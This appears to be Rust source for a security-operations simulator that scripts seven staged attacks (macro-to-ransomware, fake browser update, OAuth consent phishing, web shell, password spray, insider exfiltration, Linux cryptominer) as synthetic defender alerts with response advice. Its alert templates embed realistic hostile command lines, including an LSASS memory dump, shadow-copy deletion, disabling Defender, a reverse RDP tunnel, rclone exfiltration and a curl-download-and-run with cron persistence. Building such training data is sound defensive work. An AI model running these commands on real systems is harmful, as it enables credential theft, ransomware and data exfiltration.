//! The incidents of the story: attacks that unfold in several alerts.
//!
//! Order and pace are told here; who they happen to is cast in `timeline`.

use crate::sim::population::template::Item;
use crate::sim::population::template::PLAIN;
use crate::sim::population::template::Process;
use crate::sim::population::template::Template;

/// One attack, step by step.
#[derive(Debug)]
pub(crate) struct Storyline {
    pub(crate) steps: &'static [Step],
}

#[derive(Debug)]
pub(crate) struct Step {
    pub(crate) template: Template,
    pub(crate) place: Place,
    /// Minutes since the step before.
    pub(crate) after: i64,
}

/// Where a step shows.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Place {
    /// The device it began on.
    First,
    /// One it spread to.
    Second,
    /// A Windows server.
    Server,
    Linux,
}

/// The attacks there are; the first is the one a new incident most often is.
pub(crate) const STORYLINES: [Storyline; 7] = [
    Storyline { steps: INVOICE },
    Storyline { steps: FAKE_UPDATE },
    Storyline { steps: CONSENT },
    Storyline { steps: WEB_SHELL },
    Storyline { steps: PASSWORDS },
    Storyline { steps: LEAVER },
    Storyline { steps: MINER },
];

const SYSTEM: &str = "C:\\Windows\\System32";
const POWERSHELL_FOLDER: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0";

const EXPLORER: Process = Process {
    file: "explorer.exe",
    folder: "C:\\Windows",
    command: "C:\\Windows\\Explorer.EXE",
};
const WORD: Process = Process {
    file: "WINWORD.EXE",
    folder: "C:\\Program Files\\Microsoft Office\\root\\Office16",
    command: "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n \"C:\\Users\\{user}\\Downloads\\Facture_{hex}.docm\" /o \"\"",
};
const ENCODED: Process = Process {
    file: "powershell.exe",
    folder: POWERSHELL_FOLDER,
    command: "powershell.exe -NoP -NonI -W Hidden -Exec Bypass -enc {encoded}",
};
const SERVICES: Process = Process {
    file: "services.exe",
    folder: SYSTEM,
    command: "C:\\Windows\\system32\\services.exe",
};

const INVOICE: &[Step] = &[
    Step {
        place: Place::First,
        after: 0,
        template: Template {
            title: "Suspicious process executed by a Microsoft Office application",
            severity: "Medium",
            category: "InitialAccess",
            techniques: &["T1566.001", "T1204.002"],
            description: "A Microsoft Office application started a script interpreter after a document with macros was opened. Macros are a common way to run a first payload on a device.\n\nThe document was downloaded a few minutes earlier from an address seen nowhere else in your organization.",
            action: Some(
                "1. Ask the user whether the document was expected.\n2. Isolate the device if the command line contacts an unknown address.\n3. Search mailboxes for the same attachment and purge it.",
            ),
            chain: &[EXPLORER, WORD, ENCODED],
            items: &[
                Item::File {
                    name: "Facture_{hex}.docm",
                    folder: "C:\\Users\\{user}\\Downloads",
                    status: "Detected",
                },
                Item::Url("https://{domain}/factures/{hex}?client=contoso&lang=fr"),
            ],
            ..PLAIN
        },
    },
    Step {
        place: Place::First,
        after: 1,
        template: Template {
            title: "Suspicious PowerShell command line",
            severity: "High",
            category: "Execution",
            techniques: &["T1059.001", "T1027", "T1105"],
            description: "A suspicious PowerShell activity was observed on the machine. This behavior may indicate that PowerShell was used during installation, exploration, or in some cases in lateral movement activities which are used by attackers to invoke modules, download external payloads, or get more information about the system.\n\nThe command was encoded to hide what it does.",
            action: Some(
                "Decode the command line, examine the addresses it contacts, and look for files written in the minutes after it ran.",
            ),
            chain: &[EXPLORER, WORD, ENCODED],
            items: &[Item::Address, Item::Stream("amsistream")],
            ..PLAIN
        },
    },
    Step {
        place: Place::First,
        after: 6,
        template: Template {
            title: "Suspicious scheduled task",
            severity: "Medium",
            category: "Persistence",
            techniques: &["T1053.005"],
            description: "A scheduled task was created to start a program from a folder that users can write to, each time someone signs in. Attackers do this to survive a restart.",
            action: Some(
                "Examine the task and the file it starts; remove both if they are not part of a known installation.",
            ),
            chain: &[
                EXPLORER,
                WORD,
                ENCODED,
                Process {
                    file: "schtasks.exe",
                    folder: SYSTEM,
                    command: "schtasks.exe /create /f /sc ONLOGON /rl HIGHEST /tn \"\\Microsoft\\Windows\\Defrag\\ScheduledDefragX\" /tr \"rundll32.exe C:\\ProgramData\\{hex}.dll,Start\"",
                },
            ],
            items: &[
                Item::File {
                    name: "{hex}.dll",
                    folder: "C:\\ProgramData",
                    status: "Detected",
                },
                Item::Registry {
                    hive: "HKEY_LOCAL_MACHINE",
                    key: "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Microsoft\\Windows\\Defrag\\ScheduledDefragX",
                    name: "Id",
                    value: "{8F2C1B7E-41D0-4C7B-9E0A-5D6F3A2B1C09}",
                    kind: "String",
                },
            ],
            ..PLAIN
        },
    },
    Step {
        place: Place::First,
        after: 4,
        template: Template {
            title: "Possible command-and-control beaconing",
            severity: "Medium",
            category: "CommandAndControl",
            techniques: &["T1071.001", "T1573"],
            description: "A process contacted the same address at nearly regular intervals, about every 62 seconds, with requests of the same size. People do not browse like that; implants do.",
            chain: &[
                EXPLORER,
                WORD,
                ENCODED,
                Process {
                    file: "rundll32.exe",
                    folder: SYSTEM,
                    command: "rundll32.exe C:\\ProgramData\\{hex}.dll,Start",
                },
            ],
            items: &[Item::Address, Item::Url("{domain}")],
            ..PLAIN
        },
    },
    Step {
        place: Place::First,
        after: 18,
        template: Template {
            title: "Suspicious access to LSASS service",
            severity: "High",
            category: "CredentialAccess",
            techniques: &["T1003.001"],
            threat: None,
            description: "A process opened the Local Security Authority Subsystem Service with rights that allow reading its memory, then wrote a large file. The memory of this service holds the credentials of everyone signed in to the device.\n\nTreat the credentials of recent users of this device as known to the attacker.",
            action: Some(
                "1. Isolate the device.\n2. Reset the passwords of the accounts listed in evidence.\n3. Look for sign-ins of these accounts elsewhere since the first event.",
            ),
            chain: &[
                EXPLORER,
                WORD,
                ENCODED,
                Process {
                    file: "rundll32.exe",
                    folder: SYSTEM,
                    command: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\{user}\\AppData\\Local\\Temp\\{hex}.dmp full",
                },
            ],
            items: &[Item::File {
                name: "{hex}.dmp",
                folder: "C:\\Users\\{user}\\AppData\\Local\\Temp",
                status: "Detected",
            }],
            ..PLAIN
        },
    },
    Step {
        place: Place::Server,
        after: 11,
        template: Template {
            title: "Suspicious remote activity with PsExec",
            rooted: 38,
            severity: "High",
            category: "LateralMovement",
            techniques: &["T1021.002", "T1569.002", "T1570"],
            description: "A service was installed over the network and started at once, in the manner of PsExec. The account that did it had never signed in to this server before.",
            action: Some(
                "Verify with the owner of the account. If nobody claims the action, isolate both the source and this server.",
            ),
            chain: &[
                SERVICES,
                Process {
                    file: "PSEXESVC.exe",
                    folder: "C:\\Windows",
                    command: "C:\\Windows\\PSEXESVC.exe",
                },
                Process {
                    file: "cmd.exe",
                    folder: SYSTEM,
                    command: "cmd.exe /c \"net group \"Domain Admins\" /domain > \\\\{target}\\c$\\temp\\{hex}.txt\"",
                },
            ],
            items: &[Item::File {
                name: "PSEXESVC.exe",
                folder: "C:\\Windows",
                status: "Detected",
            }],
            ..PLAIN
        },
    },
    Step {
        place: Place::Server,
        after: 7,
        template: Template {
            title: "File backups were deleted",
            rooted: 38,
            severity: "High",
            category: "Ransomware",
            techniques: &["T1490"],
            description: "Shadow copies were deleted and recovery was switched off within a few seconds. Ransomware does this just before it encrypts files.",
            action: Some("Isolate the device now. Do not restart it."),
            chain: &[
                SERVICES,
                Process {
                    file: "PSEXESVC.exe",
                    folder: "C:\\Windows",
                    command: "C:\\Windows\\PSEXESVC.exe",
                },
                Process {
                    file: "cmd.exe",
                    folder: SYSTEM,
                    command: "cmd.exe /c vssadmin delete shadows /all /quiet & bcdedit /set {default} recoveryenabled no",
                },
                Process {
                    file: "vssadmin.exe",
                    folder: SYSTEM,
                    command: "vssadmin  delete shadows /all /quiet",
                },
            ],
            ..PLAIN
        },
    },
    Step {
        place: Place::Second,
        after: 2,
        template: Template {
            title: "Ransomware behavior detected in the file system",
            rooted: 47,
            severity: "High",
            category: "Ransomware",
            source: "WindowsDefenderAv",
            techniques: &["T1486"],
            threat: Some(("Nordlys", "Ransom:Win64/Nordlys.A!sim")),
            description: "Many files were read, rewritten with content that looks random, and renamed within one minute; a note asking for money was written into each folder.\n\nThe process was stopped. Files it had already changed stay changed.",
            action: Some(
                "1. Isolate the device.\n2. Find out which shares it had open.\n3. Keep one encrypted file and the note for the investigation.",
            ),
            chain: &[
                SERVICES,
                Process {
                    file: "{hex}.exe",
                    folder: "C:\\ProgramData",
                    command: "C:\\ProgramData\\{hex}.exe -path \\\\{target}\\finance$ -nolan -fast 12",
                },
            ],
            items: &[
                Item::File {
                    name: "HOW_TO_GET_YOUR_FILES_BACK.txt",
                    folder: "C:\\Users\\{user}\\Documents",
                    status: "Detected",
                },
                Item::File {
                    name: "budget 2027 (final) (2).xlsx.nordlys",
                    folder: "\\\\{target}\\finance$\\plans",
                    status: "Prevented",
                },
            ],
            ..PLAIN
        },
    },
];

const WSCRIPT: Process = Process {
    file: "wscript.exe",
    folder: SYSTEM,
    command: "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\{user}\\Downloads\\Mise à jour Chrome.js\"",
};

const FAKE_UPDATE: &[Step] = &[
    Step {
        place: Place::First,
        after: 0,
        template: Template {
            title: "Script downloaded by a browser launched a script host",
            severity: "Low",
            category: "Execution",
            techniques: &["T1189", "T1059.007"],
            description: "A JavaScript file that claims to be a browser update was downloaded and opened. Browsers do not update themselves this way.",
            chain: &[EXPLORER, WSCRIPT],
            items: &[
                Item::File {
                    name: "Mise à jour Chrome.js",
                    folder: "C:\\Users\\{user}\\Downloads",
                    status: "Detected",
                },
                Item::Url("https://{domain}/update.php?b=chrome&v=131"),
            ],
            ..PLAIN
        },
    },
    Step {
        place: Place::First,
        after: 2,
        template: Template {
            title: "Suspicious behavior by wscript.exe was observed",
            severity: "Medium",
            category: "DefenseEvasion",
            techniques: &["T1218.011", "T1140"],
            description: "A script host collected details of the device and its domain, then sent them out.",
            chain: &[
                EXPLORER,
                WSCRIPT,
                ENCODED,
                Process {
                    file: "nltest.exe",
                    folder: SYSTEM,
                    command: "nltest /dclist: /domain_trusts",
                },
            ],
            items: &[Item::Address],
            ..PLAIN
        },
    },
    Step {
        place: Place::First,
        after: 9,
        template: Template {
            title: "Anomaly detected in ASEP registry",
            severity: "Medium",
            category: "Persistence",
            techniques: &["T1547.001"],
            description: "A process registered a program to start with Windows in a place where few programs in your organization do.",
            chain: &[
                EXPLORER,
                WSCRIPT,
                ENCODED,
                Process {
                    file: "reg.exe",
                    folder: SYSTEM,
                    command: "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v OneDriveSync /d \"C:\\Users\\{user}\\AppData\\Roaming\\{hex}\\client32.exe\" /f",
                },
            ],
            items: &[Item::Registry {
                hive: "HKEY_CURRENT_USER",
                key: "Software\\Microsoft\\Windows\\CurrentVersion\\Run",
                name: "OneDriveSync",
                value: "C:\\Users\\{user}\\AppData\\Roaming\\{hex}\\client32.exe",
                kind: "String",
            }],
            ..PLAIN
        },
    },
    Step {
        place: Place::First,
        after: 25,
        template: Template {
            title: "Connection to a custom network indicator",
            severity: "Medium",
            category: "CommandAndControl",
            source: "CustomerTI",
            techniques: &["T1219"],
            description: "A device contacted an address that is on your organization's own list of indicators.",
            chain: &[Process {
                file: "client32.exe",
                folder: "C:\\Users\\{user}\\AppData\\Roaming\\{hex}",
                command: "\"C:\\Users\\{user}\\AppData\\Roaming\\{hex}\\client32.exe\"",
            }],
            items: &[Item::Address, Item::Url("{domain}")],
            ..PLAIN
        },
    },
];

const CONSENT: &[Step] = &[
    Step {
        place: Place::First,
        after: 0,
        template: Template {
            title: "Email messages containing malicious URL removed after delivery",
            severity: "Informational",
            category: "InitialAccess",
            source: "OfficeATP",
            techniques: &["T1566.002"],
            description: "Messages with a link that was found malicious after delivery were removed from mailboxes. {user} opened the link before that.",
            items: &[
                Item::Mailbox,
                Item::Url("https://{domain}/consent?app=Shared%20Calendar%20Sync&state={hex}"),
            ],
            cloud: true,
            ..PLAIN
        },
    },
    Step {
        place: Place::First,
        after: 14,
        template: Template {
            title: "Suspicious OAuth application consent",
            severity: "High",
            category: "Persistence",
            source: "MTP",
            techniques: &["T1528", "T1098.003"],
            description: "{user} granted an unverified application named \"Shared Calendar Sync\" the right to read and send mail on their behalf. The application was registered two days ago in another tenant.\n\nThe grant outlives a change of password.",
            action: Some(
                "Revoke the grant and the sessions of the user, and disable the application.",
            ),
            items: &[
                Item::Mailbox,
                Item::Url("https://{domain}/callback"),
                Item::Address,
            ],
            cloud: true,
            ..PLAIN
        },
    },
    Step {
        place: Place::First,
        after: 31,
        template: Template {
            title: "Suspicious inbox manipulation rule",
            severity: "Medium",
            category: "DefenseEvasion",
            source: "MCAS",
            techniques: &["T1564.008"],
            description: "A rule named \".\" was created: messages that contain \"invoice\", \"virement\" or \"請求書\" are moved to RSS Feeds and marked as read.",
            items: &[Item::Mailbox, Item::Address],
            cloud: true,
            ..PLAIN
        },
    },
];

const W3WP: Process = Process {
    file: "w3wp.exe",
    folder: "C:\\Windows\\System32\\inetsrv",
    command: "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"PartnerPortal\" -v \"v4.0\" -a \\\\.\\pipe\\iisipm{hex}",
};

const WEB_SHELL: &[Step] = &[
    Step {
        place: Place::Server,
        after: 0,
        template: Template {
            title: "Possible web shell installation",
            severity: "High",
            category: "Persistence",
            techniques: &["T1505.003", "T1190"],
            threat: Some(("Chopper", "Backdoor:ASP/Chopper.F!sim")),
            description: "A web server process wrote a script into a folder it serves. Whoever asks for this script can run commands on the server.",
            action: Some(
                "Take the site offline, keep the file, and review the web server's log for requests to it.",
            ),
            chain: &[SERVICES, W3WP],
            items: &[
                Item::File {
                    name: "error-{hex}.aspx",
                    folder: "C:\\inetpub\\wwwroot\\portal\\aspnet_client",
                    status: "Detected",
                },
                Item::Address,
            ],
            ..PLAIN
        },
    },
    Step {
        place: Place::Server,
        after: 3,
        template: Template {
            title: "Suspicious sequence of exploration activities",
            severity: "Low",
            category: "Discovery",
            techniques: &["T1033", "T1016", "T1087.002", "T1482"],
            description: "A series of commands that explore the device and its network ran within a short time under a web server process.",
            chain: &[
                SERVICES,
                W3WP,
                Process {
                    file: "cmd.exe",
                    folder: SYSTEM,
                    command: "\"cmd.exe\" /c whoami /all & ipconfig /all & net user /domain & nltest /domain_trusts",
                },
                Process {
                    file: "whoami.exe",
                    folder: SYSTEM,
                    command: "whoami  /all",
                },
            ],
            ..PLAIN
        },
    },
    Step {
        place: Place::Server,
        after: 16,
        template: Template {
            title: "Suspicious tunneling with a renamed tool",
            severity: "Medium",
            category: "CommandAndControl",
            techniques: &["T1572", "T1036.005"],
            description: "A known tunneling tool runs under the name of a system program and forwards the remote desktop port to an outside address.",
            chain: &[
                SERVICES,
                W3WP,
                Process {
                    file: "svchost.exe",
                    folder: "C:\\Windows\\Temp",
                    command: "C:\\Windows\\Temp\\svchost.exe client {ip}:443 R:53389:127.0.0.1:3389",
                },
            ],
            items: &[
                Item::Address,
                Item::File {
                    name: "svchost.exe",
                    folder: "C:\\Windows\\Temp",
                    status: "Detected",
                },
            ],
            ..PLAIN
        },
    },
    Step {
        place: Place::Server,
        after: 22,
        template: Template {
            title: "Suspected DCSync attack (replication of directory services)",
            severity: "High",
            category: "CredentialAccess",
            source: "AzureATP",
            techniques: &["T1003.006"],
            description: "An account that is no domain controller asked a domain controller to replicate secrets.\n\nIf this was not a planned synchronization, every password of the domain has to be considered known.",
            action: Some(
                "Find the owner of the account at once. Plan two resets of the krbtgt account.",
            ),
            ..PLAIN
        },
    },
];

const PASSWORDS: &[Step] = &[
    Step {
        place: Place::Server,
        after: 0,
        template: Template {
            title: "Password spray from an unusual location",
            severity: "Medium",
            category: "CredentialAccess",
            source: "AzureATP",
            techniques: &["T1110.003"],
            description: "One address tried a few common passwords against many accounts over several hours; 214 accounts were tried and one sign-in succeeded.",
            items: &[Item::Address],
            ..PLAIN
        },
    },
    Step {
        place: Place::Server,
        after: 40,
        template: Template {
            title: "Successful logon after many failures",
            severity: "High",
            category: "InitialAccess",
            techniques: &["T1078.002", "T1021.001"],
            description: "After many failures an account signed in over remote desktop from the same address.",
            action: Some(
                "Reset the password, revoke sessions, and ask why this service can be reached from the Internet.",
            ),
            chain: &[
                SERVICES,
                Process {
                    file: "svchost.exe",
                    folder: SYSTEM,
                    command: "C:\\Windows\\System32\\svchost.exe -k termsvcs -s TermService",
                },
            ],
            items: &[Item::Address],
            ..PLAIN
        },
    },
    Step {
        place: Place::Server,
        after: 5,
        template: Template {
            title: "Attempt to turn off Microsoft Defender Antivirus protection",
            severity: "High",
            category: "DefenseEvasion",
            techniques: &["T1562.001"],
            description: "Somebody tried to switch off protection. Tamper protection prevented it.",
            chain: &[
                EXPLORER,
                Process {
                    file: "powershell.exe",
                    folder: POWERSHELL_FOLDER,
                    command: "powershell -c \"Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\\"",
                },
            ],
            items: &[Item::Registry {
                hive: "HKEY_LOCAL_MACHINE",
                key: "SOFTWARE\\Policies\\Microsoft\\Windows Defender",
                name: "DisableAntiSpyware",
                value: "1",
                kind: "DWord",
            }],
            ..PLAIN
        },
    },
];

const LEAVER: &[Step] = &[
    Step {
        place: Place::First,
        after: 0,
        template: Template {
            title: "Unusual volume of files copied to removable media",
            severity: "Low",
            category: "Collection",
            source: "CustomDetection",
            techniques: &["T1052.001", "T1005"],
            description: "{user} copied 4,812 files to a USB drive within 20 minutes. The rule \"HR watch list\" of your organization raised this alert.",
            chain: &[
                EXPLORER,
                Process {
                    file: "Robocopy.exe",
                    folder: SYSTEM,
                    command: "robocopy \\\\{target}\\clients E:\\c /E /MT:32 /R:0",
                },
            ],
            ..PLAIN
        },
    },
    Step {
        place: Place::First,
        after: 55,
        template: Template {
            title: "Possible data exfiltration with a cloud synchronization tool",
            severity: "Medium",
            category: "Exfiltration",
            techniques: &["T1567.002", "T1048"],
            description: "A command-line tool for cloud storage uploaded 11.4 GB to an account outside your organization.",
            chain: &[
                EXPLORER,
                Process {
                    file: "cmd.exe",
                    folder: SYSTEM,
                    command: "\"C:\\Windows\\system32\\cmd.exe\"",
                },
                Process {
                    file: "rclone.exe",
                    folder: "E:\\tools",
                    command: "rclone.exe copy E:\\c remote:backup-{hex} --transfers 16 --no-check-certificate --config E:\\tools\\r.conf",
                },
            ],
            items: &[
                Item::Url("https://{domain}/upload"),
                Item::File {
                    name: "rclone.exe",
                    folder: "E:\\tools",
                    status: "Detected",
                },
            ],
            ..PLAIN
        },
    },
];

const SSHD: Process = Process {
    file: "sshd",
    folder: "/usr/sbin",
    command: "sshd: {user} [priv]",
};
const BASH: Process = Process {
    file: "bash",
    folder: "/usr/bin",
    command: "-bash",
};

const MINER: &[Step] = &[
    Step {
        place: Place::Linux,
        after: 0,
        template: Template {
            title: "Suspicious file dropped and launched from /tmp",
            severity: "Medium",
            category: "Execution",
            techniques: &["T1059.004", "T1222.002"],
            description: "A file was downloaded to a folder for temporary files, made executable and started.",
            chain: &[
                SSHD,
                BASH,
                Process {
                    file: "bash",
                    folder: "/usr/bin",
                    command: "bash -c 'curl -fsSL http://{ip}/x86_64 -o /tmp/.{hex} && chmod +x /tmp/.{hex} && nohup /tmp/.{hex} &'",
                },
            ],
            items: &[
                Item::File {
                    name: ".{hex}",
                    folder: "/tmp",
                    status: "Detected",
                },
                Item::Address,
            ],
            ..PLAIN
        },
    },
    Step {
        place: Place::Linux,
        after: 8,
        template: Template {
            title: "Digital currency mining related behavior detected",
            severity: "Low",
            category: "Malware",
            techniques: &["T1496"],
            threat: Some(("CoinMiner", "Trojan:Linux/CoinMiner.K!sim")),
            description: "A process talks to a mining pool and uses nearly all processors.",
            chain: &[
                SSHD,
                BASH,
                Process {
                    file: ".{hex}",
                    folder: "/tmp",
                    command: "/tmp/.{hex} --donate-level 1 -o pool.{domain}:443 --tls -k",
                },
            ],
            items: &[Item::Url("pool.{domain}")],
            ..PLAIN
        },
    },
    Step {
        place: Place::Linux,
        after: 3,
        template: Template {
            title: "Suspicious cron job",
            severity: "Medium",
            category: "Persistence",
            techniques: &["T1053.003"],
            description: "A job that starts a hidden file every minute was added for the account {user}.",
            chain: &[
                SSHD,
                BASH,
                Process {
                    file: "bash",
                    folder: "/usr/bin",
                    command: "bash -c '(crontab -l; echo \"* * * * * /tmp/.{hex} >/dev/null 2>&1\") | crontab -'",
                },
            ],
            ..PLAIN
        },
    },
];
